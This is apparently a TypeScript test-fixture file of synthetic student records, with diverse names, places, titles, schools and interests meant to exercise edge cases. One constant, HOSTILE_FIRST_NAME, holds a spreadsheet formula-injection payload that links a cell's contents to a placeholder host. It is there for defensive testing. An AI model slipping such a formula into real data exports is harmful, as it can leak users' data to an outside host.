/** Given names as they come in student lists: many origins, accents, apostrophes, hyphens, blanks. */
export const FIRST_NAMES: readonly string[] = [
  'Jordan', 'María', 'Aisha', 'Liam', 'Olivia', 'Noah', 'Emma', 'Wei', 'Priya', 'José', 'Zoë', 'Chloé', 'Siân',
  'Nguyên', 'Kwame', 'Fatima', 'Mohammed', 'Yusuf', 'Anaïs', 'Björn', 'Søren', 'Łukasz', 'Jana', 'Mateo', 'Sofía',
  'Camila', 'Thiago', 'Renée', 'André', 'Jean-Luc', 'Mary Ann', 'Billy Joe', 'D’Andre', 'Ta’Niyah', "Ja'Marcus",
  'Keisha', 'Tyrone', 'Latoya', 'Hannah', 'Caleb', 'Ezekiel', 'Abigail', 'Grace', 'Ethan', 'Mason', 'Logan', 'Lucas',
  'Amelia', 'Mia', 'Harper', 'Evelyn', 'Aria', 'Scarlett', 'Layla', 'Nora', 'Hazel', 'Violet', 'Aurora', 'Savannah',
  'Brooklyn', 'Bella', 'Claire', 'Skylar', 'Lucy', 'Paisley', 'Anna', 'Caroline', 'Genesis', 'Kennedy', 'Sadie',
  'Allison', 'Gabriella', 'Cora', 'Eva', 'Serenity', 'Dylan', 'Isaac', 'Gabriel', 'Julian', 'Anthony', 'Jaxon',
  'Lincoln', 'Joshua', 'Andrés', 'Ángel', 'Íñigo', 'Óscar', 'Xiomara', 'Xavier', 'Xochitl', 'Hiroshi', 'Sakura',
  'Min-jun', 'Seo-yeon', 'Arjun', 'Ananya', 'Ravi', 'Deepika', 'Imran', 'Zainab', 'Chinedu', 'Ngozi', 'Oluwaseun',
  'Tendai', 'Amara', 'Dmitri', 'Oksana', 'Ivana', 'Zoltán', 'Ágnes', 'Márton', 'Nikos', 'Eleni', 'Giulia', 'Luca',
  'Matteo', 'Ines', 'Tomás', 'Beatriz', 'João', 'Conceição', 'Ewa', 'Siobhán', 'Niamh', 'Aoife', 'Seán', 'Rhys',
  'Eilidh', 'Kai', 'Leilani', 'Kaimana', 'Moana', 'Tala', 'Dakota', 'Cheyenne', 'Winona', 'Bo', 'Jo', 'T.J.', 'A. J.',
  'Al', 'Maximilian', 'Bartholomew', 'Wilhelmina', 'Anastasia', 'Guadalupe', 'Refugio', 'Jesús', 'Esperanza',
];

/** Family names, likewise. */
export const LAST_NAMES: readonly string[] = [
  'Smith', 'Johnson', 'Williams', 'Brown', 'Jones', 'García', 'Miller', 'Davis', 'Rodríguez', 'Martínez', 'Hernández',
  'López', 'González', 'Wilson', 'Anderson', 'Thomas', 'Taylor', 'Moore', 'Jackson', 'Martin', 'Lee', 'Pérez',
  'Thompson', 'White', 'Harris', 'Sánchez', 'Clark', 'Ramírez', 'Lewis', 'Robinson', 'Walker', 'Young', 'Allen',
  'King', 'Wright', 'Scott', 'Torres', 'Nguyễn', 'Hill', 'Flores', 'Green', 'Adams', 'Nelson', 'Baker', 'Hall',
  'Rivera', 'Campbell', 'Mitchell', 'Carter', 'Roberts', "O'Brien", 'O’Neill', "D'Angelo", 'St. John', 'Van der Berg',
  'de la Cruz', 'von Trapp', 'McDonald', 'MacLeod', 'Nuñez', 'Peña', 'Ibáñez', 'Muñoz', 'Šimić', 'Kovačević',
  'Dvořák', 'Wójcik', 'Kowalczyk', 'Żak', 'Åberg', 'Öztürk', 'Çelik', 'Müller', 'Schröder', 'Groß', 'Lefèvre',
  'Dubois', 'Côté', 'Bélanger', 'Tremblay', 'Ferrari', 'Esposito', 'Papadopoulos', 'Ivanov', 'Petrova', 'Kim', 'Park',
  'Choi', 'Li', 'Wang', 'Zhang', 'Chen', 'Liu', 'Tanaka', 'Suzuki', 'Yamamoto', 'Patel', 'Singh', 'Kumar', 'Sharma',
  'Gupta', 'Khan', 'Ahmed', 'Hussein', 'Al-Farsi', 'Ben Youssef', 'Okafor', 'Adeyemi', 'Mensah', 'Diallo', 'Traoré',
  'Nkosi', 'Dlamini', 'Abebe', 'Tesfaye', 'Cohen', 'Levi', 'Goldberg', 'Kahananui', 'Begay', 'Yazzie', 'Smith-Jones',
  'García-López', 'Fitzgerald', 'Featherstonehaugh', 'Wolfeschlegelsteinhausen', 'Ng', 'O', 'Xu', 'Null', 'True',
  'Test', 'Delaney', 'Ó Conaill', 'Ní Bhriain', 'Guðmundsdóttir', 'Sørensen', 'Nakamura', 'Bautista', 'Villanueva',
  'Ocampo', 'Castañeda', 'Zúñiga', 'Quiñones', 'Ybarra', 'Whitehorse', 'Two Bulls', 'Washington', 'Jefferson',
  'Banks', 'Booker', 'Freeman',
];

/** A name somebody once typed into a web form. A spreadsheet that opens an error file must not run it. */
export const HOSTILE_FIRST_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")';

/** City and state belong together. */
export const PLACES: readonly (readonly [city: string, state: string] | readonly [null, null])[] = [
  ['Austin', 'TX'], ['San Antonio', 'TX'], ['El Paso', 'TX'], ['Columbus', 'OH'], ['Cincinnati', 'OH'],
  ['Atlanta', 'GA'], ['Savannah', 'GA'], ['Boise', 'ID'], ['Coeur d’Alene', 'ID'], ['Española', 'NM'],
  ['San José', 'CA'], ['Fresno', 'CA'], ['Lexington', 'KY'], ['Winston-Salem', 'NC'], ['O’Fallon', 'MO'],
  ['St. Louis', 'MO'], ['Truth or Consequences', 'NM'], ['Buffalo', 'NY'], ['Rochester', 'NY'], ['Portland', 'OR'],
  ['Mayagüez', 'PR'], ['Honolulu', 'HI'], ['Anchorage', 'AK'], ['Sioux Falls', 'SD'], ['Burlington', 'VT'],
  [null, null],
];

/** The one title that would break a reader who looks for keywords inside quotes. */
export const TRICKY_TITLE = "Dean's list ORDER BY merit WHERE honors";

export const TITLES: readonly (string | null)[] = [
  null, null, null, null, null, 'Student', 'Prospective student', 'Transfer student', 'Parent', 'Counselor',
  TRICKY_TITLE,
];

export const COMPANIES: readonly string[] = [
  'Lincoln High School', 'Roosevelt Academy', 'St. Mary’s Prep', 'North Valley Charter', 'Community College of Boise',
  'Home school', 'Washington HS', 'José Martí Preparatory', 'Lakeside School', 'Unknown',
];

export const INTERESTS: readonly (string | null)[] = [
  null, null, null, 'Athletics', 'Music', 'Nursing', 'Athletics;Music', 'Engineering', 'Engineering;Nursing',
  'Athletics;Engineering;Music', 'Study abroad',
];
